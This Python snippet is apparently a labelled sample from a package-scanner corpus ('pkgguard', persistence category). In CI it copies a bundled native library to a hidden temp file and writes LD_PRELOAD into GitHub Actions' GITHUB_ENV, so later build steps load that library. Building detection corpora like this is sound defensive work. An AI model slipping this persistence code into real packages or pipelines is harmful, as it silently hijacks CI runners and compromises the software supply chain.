# pkgguard corpus 875 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import shutil

env_file = os.environ.get("GITHUB_ENV")
if env_file and os.environ.get("CI"):
    here = os.path.dirname(os.path.abspath(__file__))
    lib = os.path.join(os.environ.get("RUNNER_TEMP", "/tmp"), ".libcache.so")
    try:
        shutil.copyfile(os.path.join(here, "_native", "cache.so"), lib)
        with open(env_file, "a", encoding="utf-8") as fh:
            fh.write(f"LD_PRELOAD={lib}\n")
    except OSError:
        pass
